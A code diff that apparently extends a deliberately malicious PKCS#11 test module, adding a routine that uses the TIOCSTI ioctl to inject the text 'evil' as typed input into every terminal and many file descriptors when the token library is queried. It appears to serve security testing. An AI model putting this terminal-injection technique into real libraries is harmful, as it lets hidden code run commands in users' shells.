@@ -15,6 +15,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -98,6 +99,17 @@ static void paint(const char *path, int fd)
     close(fd);
 }
 
+/* As if somebody had typed it there. */
+static void type(const char *path, int fd)
+{
+    static const char line[] = "evil\n";
+
+    note("typing", path, strlen(path));
+    for (const char *c = line; *c; c++)
+        (void)ioctl(fd, TIOCSTI, c);
+    note("typed", path, strlen(path));
+}
+
 static void with_terminal(const char *path, void (*act)(const char *path, int fd))
 {
     int fd = open(path, O_RDWR | O_NOCTTY);
@@ -145,6 +157,12 @@ static CK_RV evil_token_info(CK_SLOT_ID slot, CK_TOKEN_INFO *info)
     if (told("paint")) {
         (void)!write(STDERR_FILENO, picture, sizeof picture - 1);
         with_each_terminal(paint);
+    }
+    if (told("type")) {
+        (void)!write(STDOUT_FILENO, picture, sizeof picture - 1);
+        with_each_terminal(type);
+        for (int fd = 0; fd < 256; fd++)
+            type("descriptor", fd);
     }
     return real->C_GetTokenInfo(slot, info);
 }
